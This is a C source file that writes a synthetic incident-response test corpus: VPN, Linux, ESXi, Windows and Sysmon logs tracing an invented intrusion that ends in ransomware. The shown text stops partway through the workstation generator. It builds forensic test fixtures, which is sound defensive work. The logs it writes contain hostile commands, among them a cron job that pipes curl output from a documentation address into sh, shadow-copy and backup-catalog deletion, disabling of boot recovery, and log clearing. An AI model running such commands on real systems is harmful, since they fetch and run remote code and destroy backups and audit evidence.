/* test/sample/sample.c - a sample case, made by code: a small version of the story in doc/architecture.md.  April: somebody
 * comes in by the VPN with the account of a colleague who left, makes accounts, reaches a server and the domain
 * controller, erases logs.  May to July: a service and a task on the file server, a machine of his own in the domain.
 * August: he maps the network and finds the hypervisor.  September: backups are deleted and files encrypted.  Around it
 * the days of a small company.  The same bytes and times of files on every run, so that tests can name what is found; names
 * are invented, addresses reserved for documentation (RFC 5737) or private.
 *
 *	sample DIR
 */
#include <archive.h>
#include <archive_entry.h>
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>

#include "base/time.h"
#include "evtx_write.h"

#define COUNT(a) (sizeof(a) / sizeof((a)[0]))
#define T(name, value) { name, value, EVTX_TEXT }
#define U(name, value) { name, value, EVTX_U32 }
#define H(name, value) { name, value, EVTX_HEX64 }

#define INTRUDER "203.0.113.45"
#define POOL "10.8.0.14" /* his address inside the VPN */
#define LEFT "j.martin"	 /* left the company; the account did not */
#define DOMAIN_SID "S-1-5-21-1004336348-1177238915-682003330"
#define DC "DC01.corp.example"
#define FILES "SRV-FILES.corp.example"
#define DESK "WS-COMPTA.corp.example"

static const char *dir;
static const char *const people[] = { "a.bernard", "c.dubois", "l.petit", "m.leroy", "s.moreau", "t.simon" };

static void
die(const char *what)
{
	fprintf(stderr, "sample: %s: %s\n", what, strerror(errno));
	exit(1);
}

static char *
path_of(const char *name)
{
	static char path[4096];

	snprintf(path, sizeof(path), "%s/%s", dir, name);
	return path;
}

static int64_t
at(int month, int day, int hour, int min, int sec)
{
	struct vg_civil c = { .year = 2026, .month = month, .day = day, .hour = hour, .min = min, .sec = sec };

	return vg_time_of(&c, 0);
}

/* The @n-th day of work from 1 April 2026, a Wednesday, at midnight. */
static int64_t
workday(int n)
{
	return at(4, 1, 0, 0, 0) + (n + (n + 2) / 5 * 2) * VG_DAY;
}

#define WORKDAYS 113 /* to Friday 4 September */

/* When the evidence was collected: what a line without a year is read by. */
static void
date_file(const char *name)
{
	struct timespec t[2] = { { .tv_sec = at(9, 7, 8, 0, 0) / VG_SEC }, { .tv_sec = at(9, 7, 8, 0, 0) / VG_SEC } };

	if (utimensat(AT_FDCWD, path_of(name), t, 0) < 0)
		die(name);
}

/* ---- logs of lines, written in order of time whatever the order they are made in ---- */

struct line {
	int64_t t;
	size_t seq;
	char text[400];
};
struct log {
	struct line *line; /* owned */
	size_t n, cap;
};

__attribute__((format(printf, 3, 4))) static void
add(struct log *l, int64_t t, const char *format, ...)
{
	va_list ap;

	if (l->n == l->cap) {
		l->cap = l->cap ? 2 * l->cap : 1024;
		if ((l->line = realloc(l->line, l->cap * sizeof(*l->line))) == NULL)
			die("lines");
	}
	l->line[l->n] = (struct line){ .t = t, .seq = l->n };
	va_start(ap, format);
	vsnprintf(l->line[l->n++].text, sizeof(l->line->text), format, ap);
	va_end(ap);
}

static int
line_cmp(const void *a, const void *b)
{
	const struct line *x = a, *y = b;

	if (x->t != y->t)
		return x->t < y->t ? -1 : 1;
	return (x->seq > y->seq) - (x->seq < y->seq);
}

/* How a product writes the time and its host. */
typedef void stamp_fn(char *to, size_t n, const struct vg_civil *c);

static void
stamp_openvpn(char *to, size_t n, const struct vg_civil *c)
{
	snprintf(to, n, "%04d-%02d-%02d %02d:%02d:%02d", c->year, c->month, c->day, c->hour, c->min, c->sec);
}

static void
stamp_syslog(char *to, size_t n, const struct vg_civil *c)
{
	static const char *const months[] = { "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec" };

	snprintf(to, n, "%s %2d %02d:%02d:%02d web01", months[c->month - 1], c->day, c->hour, c->min, c->sec);
}

static void
stamp_esxi(char *to, size_t n, const struct vg_civil *c)
{
	snprintf(to, n, "%04d-%02d-%02dT%02d:%02d:%02d.000Z esx01", c->year, c->month, c->day, c->hour, c->min, c->sec);
}

/* The lines from @from on and before @to, into one text; the caller frees it. */
static char *
log_text(struct log *l, int64_t from, int64_t to, stamp_fn *stamp, size_t *size)
{
	char *text = malloc(l->n * (sizeof(l->line->text) + 40) + 1);
	size_t n = 0;

	if (text == NULL)
		die("text");
	qsort(l->line, l->n, sizeof(*l->line), line_cmp);
	for (size_t i = 0; i < l->n; i++) {
		struct vg_civil c;
		char when[80];

		if (l->line[i].t < from || l->line[i].t >= to)
			continue;
		vg_time_civil(l->line[i].t, &c);
		stamp(when, sizeof(when), &c);
		n += (size_t)sprintf(text + n, "%s %s\n", when, l->line[i].text);
	}
	*size = n;
	return text;
}

static void
save(const char *name, const void *p, size_t n)
{
	FILE *f = fopen(path_of(name), "w");

	if (f == NULL || fwrite(p, 1, n, f) != n || fclose(f) != 0)
		die(name);
	date_file(name);
}

/* As logrotate leaves it; the header says no time, for the same bytes on every run. */
static void
save_gzip(const char *name, const void *p, size_t n)
{
	struct archive *a = archive_write_new();
	struct archive_entry *e = archive_entry_new();

	if (a == NULL || e == NULL || archive_write_set_format_raw(a) != ARCHIVE_OK || archive_write_add_filter_gzip(a) != ARCHIVE_OK ||
	    archive_write_set_filter_option(a, "gzip", "timestamp", NULL) != ARCHIVE_OK ||
	    archive_write_open_filename(a, path_of(name)) != ARCHIVE_OK)
		die(name);
	archive_entry_set_filetype(e, AE_IFREG);
	archive_entry_set_pathname(e, "data");
	if (archive_write_header(a, e) != ARCHIVE_OK || archive_write_data(a, p, n) != (la_ssize_t)n || archive_write_free(a) != ARCHIVE_OK)
		die(name);
	archive_entry_free(e);
	date_file(name);
}

/* ---- the VPN gateway ---- */

static void
vpn_session(struct log *l, int64_t t, const char *user, const char *ip, int port, const char *inner, int64_t lasts)
{
	add(l, t, "%s:%d [%s] Peer Connection Initiated with [AF_INET]%s:%d", ip, port, user, ip, port);
	add(l, t + VG_SEC, "%s/%s:%d MULTI: primary virtual IP for %s/%s:%d: %s", user, ip, port, user, ip, port, inner);
	add(l, t + lasts, "%s/%s:%d SIGTERM[soft,remote-exit] received, client-instance exiting", user, ip, port);
}

static void
make_vpn(void)
{
	static const int nights[][2] = { { 4, 3 }, { 4, 4 }, { 4, 6 }, { 4, 20 }, { 5, 11 }, { 5, 27 }, { 6, 9 },
					 { 6, 30 }, { 7, 16 }, { 8, 13 }, { 8, 28 }, { 9, 3 } };
	struct log l = { 0 };
	size_t n;
	char *text;

	for (int d = 0; d < WORKDAYS; d++)
		for (int i = 0; i < 3; i++) { /* three of six work from home */
			int who = (d + i * 2) % (int)COUNT(people);
			char ip[32], inner[32];

			snprintf(ip, sizeof(ip), who % 2 ? "198.51.100.%d" : "192.0.2.%d", 10 + who);
			snprintf(inner, sizeof(inner), "10.8.0.%d", 20 + who);
			vpn_session(&l, workday(d) + 6 * VG_HOUR + (i * 23 + d * 7 % 19) * VG_MIN + d % 60 * VG_SEC, people[who], ip,
				    40000 + d * 10 + i, inner, 8 * VG_HOUR + (d * 11 + i) % 50 * VG_MIN);
			if (d % 17 == 5 && i == 0) /* a typing error in the morning */
				add(&l, workday(d) + 5 * VG_HOUR + 58 * VG_MIN, "%s:%d TLS Auth Error: Auth Username/Password verification failed for peer",
				    ip, 39000 + d);
		}
	for (int i = 0; i < 6; i++)
		add(&l, at(4, 3, 22, 40, i * 7), INTRUDER ":51%03d TLS Auth Error: Auth Username/Password verification failed for peer", i);
	for (size_t i = 0; i < COUNT(nights); i++)
		vpn_session(&l, at(nights[i][0], nights[i][1], 21, 51 - (int)i, 0) + (i == 0) * VG_HOUR, LEFT, INTRUDER, 51200 + (int)i, POOL,
			    6 * VG_HOUR + (int)i * 7 * VG_MIN);
	text = log_text(&l, 0, at(7, 1, 0, 0, 0), stamp_openvpn, &n);
	save_gzip("vpn-gateway/openvpn.log.1.gz", text, n);
	free(text);
	text = log_text(&l, at(7, 1, 0, 0, 0), INT64_MAX, stamp_openvpn, &n);
	save("vpn-gateway/openvpn.log", text, n);
	free(text);
	free(l.line);
}

/* ---- a Linux server ---- */

static void
make_linux(void)
{
	struct log l = { 0 };
	size_t n;
	char *text;

	for (int d = 0; d < 157; d++) {
		int64_t day = at(4, 1, 0, 0, 0) + d * VG_DAY;

		add(&l, day + 2 * VG_HOUR + VG_SEC, "CRON[%d]: (root) CMD (/usr/local/bin/backup-check)", 1000 + d * 20);
		add(&l, day + 6 * VG_HOUR + 25 * VG_MIN + VG_SEC, "CRON[%d]: (root) CMD (test -x /usr/sbin/anacron || run-parts /etc/cron.daily)", 1001 + d * 20);
	}
	for (int d = 0; d < WORKDAYS; d++) {
		int64_t t = workday(d) + 8 * VG_HOUR + d * 13 % 240 * VG_MIN;

		add(&l, t, "sshd[%d]: Accepted publickey for deploy from 10.0.0.5 port %d ssh2: ED25519 SHA256:sampleonly", 4000 + d, 50000 + d);
		add(&l, t + VG_SEC, "sshd[%d]: pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)", 4000 + d);
		add(&l, t + 40 * VG_SEC, "sshd[%d]: pam_unix(sshd:session): session closed for user deploy", 4000 + d);
		if (d % 10 == 3)
			add(&l, t + 20 * VG_SEC, "sudo:   deploy : TTY=pts/0 ; PWD=/srv/www ; USER=root ; COMMAND=/usr/bin/systemctl reload nginx");
	}
	for (int i = 0; i < 12; i++)
		add(&l, at(4, 4, 1, 10, i * 4), "sshd[3100]: Failed password for backup from " POOL " port %d ssh2", 60000 + i);
	add(&l, at(4, 4, 1, 12, 30), "sshd[3101]: Accepted password for backup from " POOL " port 60100 ssh2");
	add(&l, at(4, 4, 1, 12, 31), "sshd[3101]: pam_unix(sshd:session): session opened for user backup(uid=34) by (uid=0)");
	add(&l, at(4, 4, 1, 13, 2), "sudo:   backup : TTY=pts/0 ; PWD=/var/backups ; USER=root ; COMMAND=/usr/sbin/useradd -m -s /bin/bash svc-backup2");
	add(&l, at(4, 4, 1, 13, 4), "useradd[3110]: new user: name=svc-backup2, UID=1007, GID=1007, home=/home/svc-backup2, shell=/bin/bash, from=/dev/pts/0");
	add(&l, at(4, 4, 1, 13, 20), "usermod[3112]: add 'svc-backup2' to group 'sudo'");
	add(&l, at(4, 4, 1, 31, 0), "sshd[3120]: Accepted password for svc-backup2 from " POOL " port 60110 ssh2");
	add(&l, at(5, 27, 22, 40, 11), "sshd[3201]: Accepted password for svc-backup2 from " POOL " port 60210 ssh2");
	add(&l, at(5, 27, 22, 42, 0), "sudo: svc-backup2 : TTY=pts/1 ; PWD=/home/svc-backup2 ; USER=root ; COMMAND=/usr/bin/crontab -e");
	add(&l, at(5, 27, 22, 43, 9), "crontab[3210]: (root) REPLACE (root)");
	add(&l, at(5, 27, 23, 0, 1), "CRON[3220]: (root) CMD (curl -fsS http://" INTRUDER "/u | sh)");
	add(&l, at(8, 28, 22, 20, 0), "sshd[3301]: Accepted password for svc-backup2 from " POOL " port 60310 ssh2");
	add(&l, at(8, 28, 22, 24, 0), "sudo: svc-backup2 : TTY=pts/1 ; PWD=/var/log ; USER=root ; COMMAND=/usr/bin/truncate -s 0 /var/log/nginx/access.log");
	text = log_text(&l, 0, INT64_MAX, stamp_syslog, &n);
	save("web01/auth.log", text, n);
	save("web01/auth.log.1", text, n); /* the same log, collected twice */
	free(text);
	free(l.line);
}

/* ---- the hypervisor ---- */

static void
make_hypervisor(void)
{
	static const char *const typed[] = { "esxcli vm process list", "esxcli storage filesystem list", "vim-cmd vmsvc/getallvms",
					     "ls -la /vmfs/volumes/backup", "vim-cmd vmsvc/snapshot.removeall 12" };
	struct log l = { 0 };
	size_t n;
	char *text;

	for (int d = 0; d < 157; d++) {
		int64_t day = at(4, 1, 0, 0, 0) + d * VG_DAY;

		add(&l, day + 20 * VG_HOUR, "hostd[2100456]: info hostd[2100460] [Originator@6876 sub=Vimsvc.ha-eventmgr] Event %d : User backup-job@10.0.0.9 logged in as backup-agent/4.2",
		    3000 + d * 2);
		add(&l, day + 20 * VG_HOUR + 31 * VG_MIN, "hostd[2100456]: info hostd[2100460] [Originator@6876 sub=Vimsvc.ha-eventmgr] Event %d : User backup-job@10.0.0.9 logged out",
		    3001 + d * 2);
	}
	add(&l, at(8, 28, 22, 40, 2), "hostd[2100456]: info hostd[2100460] [Originator@6876 sub=Vimsvc.ha-eventmgr] Event 3310 : SSH access has been enabled.");
	for (int i = 0; i < 5; i++)
		add(&l, at(8, 28, 22, 40, 20 + i * 6), "sshd[210123%d]: Failed password for root from " POOL " port 5012%d ssh2", i, i);
	add(&l, at(8, 28, 22, 41, 7), "sshd[2101240]: Accepted password for root from " POOL " port 50130 ssh2");
	for (size_t i = 0; i < COUNT(typed) - 1; i++)
		add(&l, at(8, 28, 22, 42, (int)i * 11), "shell[2101244]: [root]: %s", typed[i]);
	add(&l, at(9, 4, 2, 2, 0), "sshd[2104410]: Accepted password for root from " POOL " port 50990 ssh2");
	add(&l, at(9, 4, 2, 3, 0), "shell[2104414]: [root]: %s", typed[COUNT(typed) - 1]);
	text = log_text(&l, 0, INT64_MAX, stamp_esxi, &n);
	save("esx01/syslog.log", text, n);
	free(text);
	free(l.line);
}

/* ---- Windows ---- */

/* A session of somebody on a host. */
struct who {
	const char *name, *rid, *logon;
};
static const struct who admin = { "administrateur", "500", "0x51c2f" };
static const struct who service_account = { "svc-sync", "1188", "0x9e41b" };

static const char *
sid(const char *rid)
{
	static char text[4][80];
	static unsigned turn;
	char *s = text[turn++ % COUNT(text)];

	snprintf(s, sizeof(text[0]), DOMAIN_SID "-%s", rid);
	return s;
}

static struct who
colleague(int i, char room[2][16])
{
	snprintf(room[0], 16, "%d", 1104 + i % (int)COUNT(people));
	snprintf(room[1], 16, "0x%x", 0x3e7a1u + (unsigned)i * 0x1d3u);
	return (struct who){ people[i % (int)COUNT(people)], room[0], room[1] };
}

static void
put(struct evtx_writer *w, int64_t t, const char *host, unsigned id, const struct evtx_pair *p, size_t n)
{
	if (!evtx_add(w, t, "Security", "Microsoft-Windows-Security-Auditing", host, id, 0, p, n))
		die("event");
}
#define PUT(w, t, host, id, p) put(w, t, host, id, p, COUNT(p))

static void
signin(struct evtx_writer *w, int64_t t, const char *host, struct who who, const char *ip, const char *type)
{
	const char *package = strcmp(type, "10") == 0 ? "Negotiate" : strcmp(ip, POOL) == 0 ? "NTLM" : "Kerberos";
	const struct evtx_pair p[] = {
		T("SubjectUserSid", "S-1-0-0"), T("SubjectUserName", "-"), T("SubjectDomainName", "-"), H("SubjectLogonId", "0x0"),
		T("TargetUserSid", sid(who.rid)), T("TargetUserName", who.name), T("TargetDomainName", "CORP"), H("TargetLogonId", who.logon),
		U("LogonType", type), T("LogonProcessName", package[0] == 'K' ? "Kerberos" : package[0] == 'N' && package[1] == 'T' ? "NtLmSsp " : "User32 "),
		T("AuthenticationPackageName", package), T("WorkstationName", "-"), T("LogonGuid", "{00000000-0000-0000-0000-000000000000}"),
		T("TransmittedServices", "-"), T("LmPackageName", package[1] == 'T' ? "NTLM V2" : "-"), U("KeyLength", package[1] == 'T' ? "128" : "0"),
		H("ProcessId", "0x0"), T("ProcessName", "-"), T("IpAddress", ip), T("IpPort", "49812"), T("ImpersonationLevel", "%%1833"),
		T("RestrictedAdminMode", "-"), T("VirtualAccount", "%%1843"), H("TargetLinkedLogonId", "0x0"), T("ElevatedToken", "%%1842"),
	};

	PUT(w, t, host, 4624, p);
}

static void
signin_failed(struct evtx_writer *w, int64_t t, const char *host, const char *user, const char *ip)
{
	const struct evtx_pair p[] = {
		T("SubjectUserSid", "S-1-0-0"), T("SubjectUserName", "-"), T("SubjectDomainName", "-"), H("SubjectLogonId", "0x0"),
		T("TargetUserSid", "S-1-0-0"), T("TargetUserName", user), T("TargetDomainName", "CORP"), T("Status", "0xc000006d"),
		T("FailureReason", "%%2313"), T("SubStatus", "0xc000006a"), U("LogonType", "3"), T("LogonProcessName", "NtLmSsp "),
		T("AuthenticationPackageName", "NTLM"), T("WorkstationName", "-"), T("TransmittedServices", "-"), T("LmPackageName", "-"),
		U("KeyLength", "0"), H("ProcessId", "0x0"), T("ProcessName", "-"), T("IpAddress", ip), T("IpPort", "49812"),
	};

	PUT(w, t, host, 4625, p);
}

static void
signout(struct evtx_writer *w, int64_t t, const char *host, struct who who, const char *type)
{
	const struct evtx_pair p[] = { T("TargetUserSid", sid(who.rid)), T("TargetUserName", who.name), T("TargetDomainName", "CORP"),
				       H("TargetLogonId", who.logon), U("LogonType", type) };

	PUT(w, t, host, 4634, p);
}

static void
privileged(struct evtx_writer *w, int64_t t, const char *host, struct who who)
{
	const struct evtx_pair p[] = { T("SubjectUserSid", sid(who.rid)), T("SubjectUserName", who.name), T("SubjectDomainName", "CORP"),
				       H("SubjectLogonId", who.logon), T("PrivilegeList", "SeSecurityPrivilege\n\t\t\tSeBackupPrivilege\n\t\t\tSeDebugPrivilege") };

	PUT(w, t, host, 4672, p);
}

static void
ntlm_checked(struct evtx_writer *w, int64_t t, const char *user, const char *from, const char *status)
{
	const struct evtx_pair p[] = { T("PackageName", "MICROSOFT_AUTHENTICATION_PACKAGE_V1_0"), T("TargetUserName", user),
				       T("Workstation", from), T("Status", status) };

	PUT(w, t, DC, 4776, p);
}

static void
ticket(struct evtx_writer *w, int64_t t, const char *user, const char *service, const char *cipher, const char *ip)
{
	char name[80], from[40];
	const struct evtx_pair p[] = { T("TargetUserName", name), T("TargetDomainName", "CORP.EXAMPLE"), T("ServiceName", service),
				       T("ServiceSid", sid("1120")), T("TicketOptions", "0x40810000"), T("TicketEncryptionType", cipher),
				       T("IpAddress", from), T("IpPort", "50214"), T("Status", "0x0"),
				       T("LogonGuid", "{5b0e1c6a-0000-0000-0000-00000000c0de}"), T("TransmittedServices", "-") };

	snprintf(name, sizeof(name), "%s@CORP.EXAMPLE", user);
	snprintf(from, sizeof(from), "::ffff:%s", ip);
	PUT(w, t, DC, 4769, p);
}

/* A day of work as the domain controller sees it. */
static void
dc_day(struct evtx_writer *w, int64_t day, int n)
{
	for (int i = 0; i < 3; i++) {
		int64_t t = day + 7 * VG_HOUR + (i * 37 + n * 7 % 29) * VG_MIN + n % 60 * VG_SEC;
		char room[2][16], ip[32];
		struct who who = colleague(n + i, room);

		snprintf(ip, sizeof(ip), "10.0.0.%d", 30 + (n + i) % (int)COUNT(people));
		signin(w, t, DC, who, ip, "3");
		ticket(w, t + VG_SEC, who.name, "SRV-FILES$", "0x12", ip);
		if (i == 0)
			ntlm_checked(w, t + 2 * VG_SEC, who.name, "COPIEUR", "0x0");
		signout(w, t + 30 * VG_SEC, DC, who, "3");
	}
}

static void
account_made(struct evtx_writer *w, int64_t t)
{
	const struct evtx_pair made[] = {
		T("TargetUserName", service_account.name), T("TargetDomainName", "CORP"), T("TargetSid", sid(service_account.rid)),
		T("SubjectUserSid", sid(admin.rid)), T("SubjectUserName", admin.name), T("SubjectDomainName", "CORP"), H("SubjectLogonId", admin.logon),
		T("PrivilegeList", "-"), T("SamAccountName", service_account.name), T("DisplayName", "%%1793"), T("UserPrincipalName", "svc-sync@corp.example"),
		T("HomeDirectory", "%%1793"), T("PasswordLastSet", "%%1794"), T("AccountExpires", "%%1794"), T("PrimaryGroupId", "513"),
		T("OldUacValue", "0x0"), T("NewUacValue", "0x15"), T("UserAccountControl", "\n\t\t%%2080\n\t\t%%2082\n\t\t%%2084"), T("SidHistory", "-"),
	};
	const struct evtx_pair added[] = {
		T("MemberName", "CN=svc-sync,CN=Users,DC=corp,DC=example"), T("MemberSid", sid(service_account.rid)),
		T("TargetUserName", "Admins du domaine"), T("TargetDomainName", "CORP"), T("TargetSid", sid("512")), T("SubjectUserSid", sid(admin.rid)),
		T("SubjectUserName", admin.name), T("SubjectDomainName", "CORP"), H("SubjectLogonId", admin.logon), T("PrivilegeList", "-"),
	};

	PUT(w, t, DC, 4720, made);
	PUT(w, t + VG_MIN, DC, 4728, added);
}

/* A machine that nobody bought joins the domain. */
static void
machine_joined(struct evtx_writer *w, int64_t t)
{
	const struct evtx_pair p[] = {
		T("TargetUserName", "DESKTOP-7Q2LK$"), T("TargetDomainName", "CORP"), T("TargetSid", sid("1191")), T("SubjectUserSid", sid(service_account.rid)),
		T("SubjectUserName", service_account.name), T("SubjectDomainName", "CORP"), H("SubjectLogonId", service_account.logon),
		T("PrivilegeList", "-"), T("SamAccountName", "DESKTOP-7Q2LK$"), T("DnsHostName", "DESKTOP-7Q2LK.corp.example"), T("PrimaryGroupId", "515"),
	};

	PUT(w, t, DC, 4741, p);
}

static void
cleared(struct evtx_writer *w, int64_t t, const char *host, const char *channel, struct who who)
{
	const struct evtx_pair security[] = { T("SubjectUserSid", sid(who.rid)), T("SubjectUserName", who.name), T("SubjectDomainName", "CORP"),
					      H("SubjectLogonId", who.logon) };
	const struct evtx_pair other[] = { T("SubjectUserName", who.name), T("SubjectDomainName", "CORP"), T("Channel", channel), T("BackupPath", "") };
	bool is_security = strcmp(channel, "Security") == 0;

	if (!evtx_add_user(w, t, channel, "Microsoft-Windows-Eventlog", host, is_security ? 1102 : 104, 4, "LogFileCleared",
			   is_security ? security : other, is_security ? COUNT(security) : COUNT(other)))
		die("event");
}

/* The live log begins where it was erased; what stood before is in the shadow copy of that night. */
static void
make_dc(void)
{
	struct evtx_writer *before = evtx_new(), *w = evtx_new();

	if (before == NULL || w == NULL)
		die("DC01");
	evtx_set_id(before, 81000);
	for (int d = 0; workday(d) < at(4, 7, 0, 0, 0); d++)
		dc_day(before, workday(d), d);
	for (int i = 0; i < 14; i++) {
		signin_failed(before, at(4, 6, 23, 2, i * 3), DC, admin.name, POOL);
		ntlm_checked(before, at(4, 6, 23, 2, i * 3), admin.name, "DESKTOP-7Q2LK", "0xc000006a");
	}
	signin(before, at(4, 6, 23, 9, 0), DC, admin, POOL, "10");
	privileged(before, at(4, 6, 23, 9, 1), DC, admin);
	account_made(before, at(4, 6, 23, 14, 0));
	if (!evtx_save(before, path_of("DC01/shadow-copy/Security.evtx")))
		die("DC01/shadow-copy/Security.evtx");
	evtx_set_id(w, 81090);
	cleared(w, at(4, 6, 23, 40, 0), DC, "Security", admin);
	for (int d = 4; d < WORKDAYS; d++) {
		dc_day(w, workday(d), d);
		if (workday(d) == at(4, 20, 0, 0, 0))
			machine_joined(w, at(4, 20, 22, 5, 0));
		if (workday(d) == at(6, 9, 0, 0, 0))
			for (int i = 0; i < 4; i++) {
				static const char *const services[] = { "svc-sql", "svc-backup", "svc-print", "svc-web" };

				ticket(w, at(6, 9, 22, 12, i * 2), service_account.name, services[i], "0x17", POOL);
			}
	}
	if (!evtx_save(w, path_of("DC01/Security.evtx")))
		die("DC01/Security.evtx");
	evtx_free(before);
	evtx_free(w);
	date_file("DC01/Security.evtx");
	date_file("DC01/shadow-copy/Security.evtx");
}

static void
share_opened(struct evtx_writer *w, int64_t t, struct who who, const char *ip, const char *share, const char *path)
{
	const struct evtx_pair p[] = { T("SubjectUserSid", sid(who.rid)), T("SubjectUserName", who.name), T("SubjectDomainName", "CORP"),
				       H("SubjectLogonId", who.logon), T("ObjectType", "File"), T("IpAddress", ip), T("IpPort", "50377"),
				       T("ShareName", share), T("ShareLocalPath", path), T("AccessMask", "0x1"), T("AccessList", "%%4416") };

	PUT(w, t, FILES, 5140, p);
}

static void
task_made(struct evtx_writer *w, int64_t t)
{
	const struct evtx_pair p[] = { T("SubjectUserSid", sid(service_account.rid)), T("SubjectUserName", service_account.name), T("SubjectDomainName", "CORP"),
				       H("SubjectLogonId", service_account.logon), T("TaskName", "\\Sync Helper"),
				       T("TaskContent", "<Task><Actions><Exec><Command>powershell.exe</Command><Arguments>-w hidden -f C:\\ProgramData\\sync.ps1</Arguments></Exec></Actions></Task>") };

	PUT(w, t, FILES, 4698, p);
}

static void
system_event(struct evtx_writer *w, int64_t t, unsigned id, const struct evtx_pair *p, size_t n)
{
	if (!evtx_add(w, t, "System", "Service Control Manager", FILES, id, 4, p, n))
		die("event");
}

static void
make_server(void)
{
	struct evtx_writer *w = evtx_new(), *system = evtx_new();
	const struct evtx_pair service[] = { T("ServiceName", "WinSyncHelper"), T("ImagePath", "C:\\Windows\\Temp\\wsh.exe"),
					     T("ServiceType", "user mode service"), T("StartType", "auto start"), T("AccountName", "LocalSystem") };

	if (w == NULL || system == NULL)
		die("SRV-FILES");
	evtx_set_id(w, 204500);
	evtx_set_id(system, 9100);
	for (int d = 23; d < WORKDAYS; d++) { /* from 4 May */
		int64_t day = workday(d);

		for (int i = 0; i < 2; i++) {
			int64_t t = day + 7 * VG_HOUR + (i * 41 + d % 23) * VG_MIN;
			char room[2][16], ip[32];
			struct who who = colleague(d + i, room);

			snprintf(ip, sizeof(ip), "10.0.0.%d", 30 + (d + i) % (int)COUNT(people));
			signin(w, t, FILES, who, ip, "3");
			share_opened(w, t + VG_SEC, who, ip, "\\\\*\\Compta", "\\??\\D:\\Compta");
			signout(w, t + 9 * VG_HOUR, FILES, who, "3");
		}
		for (int i = 0; i < 2; i++) {
			const struct evtx_pair state[] = { T("param1", i ? "Windows Update" : "Volume Shadow Copy"), T("param2", d % 2 ? "running" : "stopped") };

			system_event(system, day + (18 + i) * VG_HOUR, 7036, state, COUNT(state));
		}
		if (day == at(5, 11, 0, 0, 0)) {
			signin(w, at(5, 11, 22, 10, 0), FILES, service_account, POOL, "3");
			privileged(w, at(5, 11, 22, 10, 0), FILES, service_account);
			share_opened(w, at(5, 11, 22, 10, 5), service_account, POOL, "\\\\*\\ADMIN$", "\\??\\C:\\Windows");
			system_event(system, at(5, 11, 22, 11, 0), 7045, service, COUNT(service));
			evtx_gap(w, 37); /* single records were taken out of the live log */
		}
		if (day == at(6, 30, 0, 0, 0)) {
			signin(w, at(6, 30, 22, 4, 0), FILES, service_account, POOL, "10");
			task_made(w, at(6, 30, 22, 9, 0));
		}
		if (day == at(7, 16, 0, 0, 0))
			cleared(system, at(7, 16, 22, 31, 0), FILES, "System", service_account);
	}
	if (!evtx_save(w, path_of("SRV-FILES/Security.evtx")))
		die("SRV-FILES/Security.evtx");
	if (!evtx_save(system, path_of("SRV-FILES/System.evtx")))
		die("SRV-FILES/System.evtx");
	evtx_free(w);
	evtx_free(system);
	date_file("SRV-FILES/Security.evtx");
	date_file("SRV-FILES/System.evtx");
}

/* ---- a workstation with Sysmon ---- */

static const char *
utc(int64_t t)
{
	static char text[40];
	struct vg_civil c;

	vg_time_civil(t, &c);
	snprintf(text, sizeof(text), "%04d-%02d-%02d %02d:%02d:%02d.000", c.year, c.month, c.day, c.hour, c.min, c.sec);
	return text;
}

/* A digest that is no digest of anything, the same for the same program. */
static const char *
hashes(const char *image)
{
	static char text[80];
	uint64_t h = UINT64_C(14695981039346656037);
	int n = snprintf(text, sizeof(text), "SHA256=");

	for (const char *p = image; *p; p++)
		h = (h ^ (uint8_t)*p) * UINT64_C(1099511628211);
	for (int i = 0; i < 4; i++, h = h * UINT64_C(6364136223846793005) + 1)
		n += snprintf(text + n, sizeof(text) - (size_t)n, "%016llX", (unsigned long long)h);
	return text;
}

static void
sysmon(struct evtx_writer *w, int64_t t, unsigned id, const struct evtx_pair *p, size_t n)
{
	if (!evtx_add(w, t, "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", DESK, id, 4, p, n))
		die("event");
}

static void
process(struct evtx_writer *w, int64_t t, const char *user, const char *logon, const char *folder, const char *name, const char *command, const char *parent)
{
	static unsigned number = 4000;
	char image[200], pid[16], guid[64], full[60];
	const struct evtx_pair p[] = {
		T("RuleName", "-"), T("UtcTime", utc(t)), T("ProcessGuid", guid), U("ProcessId", pid), T("Image", image), T("FileVersion", "10.0.19041.1"),
		T("Description", "-"), T("Product", "-"), T("Company", "-"), T("OriginalFileName", name), T("CommandLine", command),
		T("CurrentDirectory", "C:\\Windows\\system32\\"), T("User", full), T("LogonGuid", "{5b0e1c6a-0000-0000-0000-00000000c0de}"),
		H("LogonId", logon), U("TerminalSessionId", "2"), T("IntegrityLevel", "High"), T("Hashes", hashes(name)),
		T("ParentProcessGuid", "{5b0e1c6a-0000-0000-0000-000000000001}"), U("ParentProcessId", "3988"), T("ParentImage", parent),
		T("ParentCommandLine", parent), T("ParentUser", full),
	};

	number += 4;
	snprintf(image, sizeof(image), "%s\\%s", folder, name);
	snprintf(pid, sizeof(pid), "%u", number);
	snprintf(guid, sizeof(guid), "{5b0e1c6a-0000-0000-0000-%012x}", number);
	snprintf(full, sizeof(full), "CORP\\%s", user);
	sysmon(w, t, 1, p, COUNT(p));
}

static void
file_made(struct evtx_writer *w, int64_t t, int n)
{
	char path[120];
	const struct evtx_pair p[] = { T("RuleName", "-"), T("UtcTime", utc(t)), T("ProcessGuid", "{5b0e1c6a-0000-0000-0000-0000000b0b00}"),
				       U("ProcessId", "7712"), T("Image", "C:\\ProgramData\\sync.exe"), T("TargetFilename", path),
				       T("CreationUtcTime", utc(t)), T("User", "CORP\\svc-sync") };

	snprintf(path, sizeof(path), n ? "C:\\Compta\\2026\\facture-%04d.pdf.locked" : "C:\\Compta\\2026\\LISEZ-MOI.txt", 1000 + n);
	sysmon(w, t, 11, p, COUNT(p));
}

#define SYSTEM32 "C:\\Windows\\System32"
#define SHELL SYSTEM32 "\\cmd.exe"

static void
make_workstation(void)
{
	static const char *const tools[][2] = { { "whoami.exe", "whoami /groups" }, { "nltest.exe", "nltest /domain_trusts" },
						{ "net.exe", "net group \"Domain Admins\" /domain" }, { "net.exe", "net view \\\\SRV-BACKUP" },
						{ "arp.exe", "arp -a" } };
	static const char *const last[][2] = { { "vssadmin.exe", "vssadmin delete shadows /all /quiet" },
					       { "wbadmin.exe", "wbadmin delete catalog -quiet" },
					       { "bcdedit.exe", "bcdedit /set {default} recoveryenabled no" },
					       { "wevtutil.exe", "wevtutil cl Security" } };
	struct evtx_writer *w = evtx_new();

	if (w == NULL)
		die("WS-COMPTA");
